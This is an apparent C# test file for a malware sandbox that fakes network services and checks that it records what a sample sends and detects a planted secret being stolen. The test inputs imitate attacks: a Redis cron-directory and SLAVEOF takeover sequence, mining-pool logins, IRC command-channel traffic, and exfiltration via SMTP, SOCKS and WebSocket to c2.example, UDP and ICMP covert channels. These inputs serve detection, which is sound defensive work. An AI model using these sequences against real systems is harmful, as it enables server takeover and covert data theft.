using System.Net;
using System.Net.Sockets;
using System.Text;
using Wellguard.Events;
using Wellguard.Linux.Detonation.Internet;
using Xunit;

namespace Wellguard.Tests.Linux.Internet;

public sealed class ProtocolTests
{
    private static List<Event> Sent(List<Event> all, string protocol) => [.. all.Where(happened => happened.Kind == EventKind.Send && happened.Other == protocol)];

    [Fact]
    public async Task A_pool_of_Bitcoin()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 3333);
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, """{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}""" + "\n", "mining.notify");
        await cell.TalkAsync(stream, """{"id":2,"method":"mining.authorize","params":["bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.worker","x"]}""" + "\n", "mining.notify");
        await cell.TalkAsync(stream, """{"id":3,"method":"mining.submit","params":[]}""" + "\n", "\"result\":true");
        var told = Sent(await cell.EndAsync(), "stratum");
        Assert.Equal(["mining.subscribe", "agent: cpuminer/2.5"], told[0].Arguments!);
        Assert.Equal(["mining.authorize", "wallet: bc1qxy2k…rker"], told[1].Arguments!);
    }

    [Fact]
    public async Task A_pool_of_Monero()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 3333);
        await using var stream = await cell.ConnectAsync();
        var answer = await cell.TalkAsync(stream, """{"id":"a","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS","agent":"XMRig"}}""" + "\n", "\n");
        using var json = System.Text.Json.JsonDocument.Parse(answer);
        Assert.Equal(152, json.RootElement.GetProperty("result").GetProperty("job").GetProperty("blob").GetString()!.Length);
        await cell.TalkAsync(stream, """{"id":2,"method":"keepalived"}""" + "\n", "KEEPALIVED");
        await cell.TalkAsync(stream, """{"id":3,"method":"submit"}""" + "\n", "\"OK\"");
    }

    [Fact]
    public async Task An_open_Redis()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 6379);
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, "*1\r\n$4\r\nPING\r\n", "+PONG");
        await cell.TalkAsync(stream, "INFO\r\n", "redis_version");
        await cell.TalkAsync(stream, "CONFIG GET dir\r\n", "/var/lib/redis");
        await cell.TalkAsync(stream, "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$20\r\n/var/spool/cron/root\r\n", "+OK");
        await cell.TalkAsync(stream, "SLAVEOF 203.0.113.7 6379\r\n", "+OK");
        var told = Sent(await cell.EndAsync(), "redis").Select(happened => happened.Arguments![0]).ToList();
        Assert.Equal(["PING", "INFO", "CONFIG GET dir", "CONFIG SET dir /var/spool/cron/root", "SLAVEOF 203.0.113.7 6379"], told);
    }

    [Theory]
    [InlineData("*2\r\n$2147483647\r\n")]
    [InlineData("*99999\r\n")]
    [InlineData("*1\r\nx\r\n")]
    public async Task Damaged_Redis_ends(string say)
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 6379);
        Assert.Equal("", await cell.AllAsync(say));
    }

    [Fact]
    public async Task An_IRC_server()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 6667);
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, "PASS secretword\r\nNICK bot1\r\nUSER bot1 0 * :bot\r\n", " 376 bot1 ");
        await cell.TalkAsync(stream, "JOIN #cmd\r\n", " 366 bot1 #cmd ");
        await cell.TalkAsync(stream, $"PRIVMSG #cmd :{Cell.Secret}\r\nPING :x\r\n", "PONG");
        var all = await cell.EndAsync();
        Assert.Contains("PRIVMSG #cmd :[token]", Sent(all, "irc").Select(happened => happened.Arguments![0]));
        Assert.Contains("PASS (kept back)", Sent(all, "irc").Select(happened => happened.Arguments![0]));
        Assert.Single(all, happened => happened.Kind == EventKind.Theft);
    }

    [Fact]
    public async Task Mail_is_taken()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 587);
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, "", "220 ");
        await cell.TalkAsync(stream, "EHLO a\r\n", "250 SMTPUTF8");
        await cell.TalkAsync(stream, "AUTH LOGIN\r\n", "334 ");
        await cell.TalkAsync(stream, "dXNlcg==\r\n", "334 ");
        await cell.TalkAsync(stream, "cGFzcw==\r\n", "235 ");
        await cell.TalkAsync(stream, "MAIL FROM:<a@a>\r\n", "250 ");
        await cell.TalkAsync(stream, "DATA\r\n", "354 ");
        await cell.TalkAsync(stream, $"Subject: loot\r\n\r\n{Convert.ToBase64String(Encoding.ASCII.GetBytes("xx" + Cell.Secret))}\r\n.\r\n", "250 ");
        await cell.TalkAsync(stream, "QUIT\r\n", "221 ");
        var all = await cell.EndAsync();
        Assert.Contains("message", Sent(all, "smtp").Select(happened => happened.Arguments![0]));
        Assert.DoesNotContain("cGFzcw==", string.Concat(Sent(all, "smtp").SelectMany(happened => happened.Arguments!)), StringComparison.Ordinal);
        Assert.Single(all, happened => happened.Kind == EventKind.Theft);
    }

    [Theory]
    [InlineData(22, "SSH-2.0-")]
    [InlineData(21, "220 ")]
    [InlineData(110, "+OK")]
    [InlineData(143, "* OK")]
    [InlineData(23, "login:")]
    [InlineData(3306, "mysql_native_password")]
    public async Task Servers_that_speak_first(int port, string greeting)
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", port);
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, "", greeting);
    }

    [Theory]
    [InlineData("\x05\x01\x00", "\x05\x01\x00\x03\u000Bc2.example.\x00\x50")]
    [InlineData("\x05\x01\x02", "\x05\x01\x00\x03\u000Bc2.example.\x00\x50")]
    [InlineData("", "\x04\x01\x00\x50\x00\x00\x00\x01me\0c2.example\0")]
    public async Task Through_SOCKS_to_somebody_else(string hello, string order)
    {
        await using var cell = new Cell();
        cell.To("127.0.0.1", 9050);
        await using var stream = await cell.ConnectAsync();
        if (hello.Length > 0)
        {
            await cell.TalkAsync(stream, hello, "\x05");
        }

        if (hello.EndsWith('\x02'))
        {
            await cell.TalkAsync(stream, "\x01\x01u\x01p", "\x01");
        }

        await cell.TalkAsync(stream, order, order[0] == 4 ? "\x5A" : "\x05\0");
        await cell.TalkAsync(stream, "GET /hidden HTTP/1.1\r\nHost: c2.example\r\n\r\n", "200 OK");
        Assert.Contains(await cell.EndAsync(), happened => happened.Kind == EventKind.Request && happened.Object == "http://c2.example/hidden");
    }

    [Fact]
    public async Task A_WebSocket_is_heard_under_its_mask()
    {
        await using var cell = new Cell();
        using var socket = new System.Net.WebSockets.ClientWebSocket();
        using var client = new HttpMessageInvoker(new SocketsHttpHandler { UseProxy = false, ConnectCallback = async (_, _) => await cell.ConnectAsync() });
        await socket.ConnectAsync(new Uri("ws://c2.example/ws"), client, cell.Soon);
        await socket.SendAsync(Encoding.ASCII.GetBytes(new string('x', 9001) + Cell.Secret), System.Net.WebSockets.WebSocketMessageType.Text, true, cell.Soon);
        await socket.CloseAsync(System.Net.WebSockets.WebSocketCloseStatus.NormalClosure, null, cell.Soon);
        var all = await cell.EndAsync();
        Assert.Equal("http://c2.example/ws", Assert.Single(Sent(all, "websocket")).Object);
        Assert.Equal(["plain"], Assert.Single(all, happened => happened.Kind == EventKind.Theft).Arguments!);
    }

    [Fact]
    public async Task Datagrams_are_heard_and_the_time_is_told()
    {
        await using var cell = new Cell(options => options with { DatagramDestination = _ => new IPEndPoint(IPAddress.Parse("203.0.113.5"), 9999) });
        using var client = new UdpClient();
        client.Connect(IPAddress.Loopback, cell.Internet.UdpPort);
        await client.SendAsync(Encoding.ASCII.GetBytes("loot " + Cell.Secret), cell.Soon);
        var ask = new byte[48];
        ask[0] = 0x23;
        await client.SendAsync(ask, cell.Soon);
        var answer = (await client.ReceiveAsync(cell.Soon)).Buffer;
        var seconds = System.Buffers.Binary.BinaryPrimitives.ReadUInt32BigEndian(answer.AsSpan(40)) - 2_208_988_800L;
        Assert.InRange(seconds, TimeProvider.System.GetUtcNow().ToUnixTimeSeconds() - 60, TimeProvider.System.GetUtcNow().ToUnixTimeSeconds() + 60);
        await client.SendAsync((byte[])[0, 1, 0, 0, 0x21, 0x12, 0xA4, 0x42, .. new byte[12]], cell.Soon);
        Assert.Equal(1, (await client.ReceiveAsync(cell.Soon)).Buffer[0]);
        var all = await cell.EndAsync();
        Assert.Equal("udp://203.0.113.5:9999", Assert.Single(all, happened => happened.Kind == EventKind.Theft).Object);
        Assert.Equal(("udp://203.0.113.5:9999", "udp"), Sent(all, "udp").Select(happened => (happened.Object, happened.Other)).First());
    }

    [Fact]
    public async Task Pings_are_told_once_and_what_they_carry()
    {
        await using var cell = new Cell();
        byte[] header = [.. To4(), 8, .. new byte[7]], stamp = [.. Enumerable.Range(0, 16).Select(static at => (byte)(200 + at))];
        var header6 = To6(next: 58);
        var usual = Enumerable.Range(16, 40).Select(static value => (byte)value).ToArray();
        cell.Internet.Take([.. header, .. stamp, .. usual]);
        cell.Internet.Take([.. header, .. stamp, .. usual]);
        cell.Internet.Take([.. header, .. new byte[56]]);
        cell.Internet.Take([.. header, .. stamp, .. "loot "u8, .. Encoding.ASCII.GetBytes(Cell.Secret)]);
        cell.Internet.Take([.. header6, 128, .. new byte[7], .. "abcdefghijklmnopqrstuvwabc"u8]);
        cell.Internet.Take([.. header6, 135, .. new byte[70]]);
        foreach (var hostile in (byte[][])[[], [0x40, .. new byte[11]], [0x4F], [0x4F, .. new byte[40]], [0x45, .. new byte[22]], [0x60, .. new byte[41]], To6(next: 0), [.. To6(next: 0), 0, 255, .. new byte[6]], [.. To6(next: 60), .. Enumerable.Repeat((byte[])[60, 0, 0, 0, 0, 0, 0, 0], 20).SelectMany(static one => one)]])
        {
            cell.Internet.Take(hostile);
        }

        var all = await cell.EndAsync();
        Assert.Equal(
            [("icmp://203.0.113.5", "ping"), ("icmp://203.0.113.5", "carries: loot [token]"), ("icmp://[2001:db8::5]", "ping")],
            Sent(all, "icmp").Select(static happened => (happened.Object!, happened.Arguments!.Single())));
        Assert.Equal("icmp://203.0.113.5", Assert.Single(all, static happened => happened.Kind == EventKind.Theft).Object);
    }

    private static byte[] To4(byte fragment = 0) => [0x45, 0, 0, 0, 0, 0, 0, fragment, 0, 1, 0, 0, .. new byte[4], 203, 0, 113, 5];

    private static byte[] To6(byte next) => [0x60, .. new byte[5], next, 0, .. new byte[16], .. IPAddress.Parse("2001:db8::5").GetAddressBytes()];

    /// <summary>Secrets in forged errors, over the border of fragments, behind the headers of IPv6.</summary>
    [Fact]
    public async Task What_is_hidden_in_icmp_is_found()
    {
        var (first, rest) = (Encoding.ASCII.GetBytes(Cell.Secret[..9]), Encoding.ASCII.GetBytes(Cell.Secret[9..]));
        byte[] header = [0, 0, 0, 0, 0, 0, 0];
        var hidden = new Dictionary<string, byte[][]>
        {
            ["an error"] = [[.. To4(), 3, .. header, .. first, .. rest]],
            ["fragments"] = [[.. To4(), 8, .. header, .. first], [.. To4(fragment: 2), .. rest]],
            ["hop by hop"] = [[.. To6(next: 0), 58, 0, .. new byte[6], 128, .. header, .. first, .. rest]],
            ["two headers and fragments"] = [[.. To6(next: 60), 44, 0, .. new byte[6], 58, 0, 0, 1, .. new byte[4], 128, .. header, .. first], [.. To6(next: 60), 44, 0, .. new byte[6], 58, 0, 0, 16, .. new byte[4], .. rest]],
        };
        foreach (var (name, packets) in hidden)
        {
            await using var cell = new Cell();
            foreach (var packet in packets)
            {
                cell.Internet.Take(packet);
            }

            Assert.True((await cell.EndAsync()).Count(static happened => happened.Kind == EventKind.Theft) == 1, name);
        }
    }

    [Theory]
    [InlineData("GET / HT", 80, "Http")]
    [InlineData("\x16\x03\x01", 80, "Tls")]
    [InlineData("{\"id\":1}", 80, "Stratum")]
    [InlineData("USER a", 21, "Lines")]
    [InlineData("USER a", 6667, "Irc")]
    [InlineData("PING\r\n", 6379, "Redis")]
    [InlineData("PING\r\n", 1, "Raw")]
    [InlineData("\x05\x01\x00", 9050, "Socks")]
    [InlineData("", 1, "Raw")]
    public void Guessed_by_the_first_bytes(string first, int port, string protocol) => Assert.Equal(protocol, Opening.Guess(Encoding.Latin1.GetBytes(first), port).ToString());
}
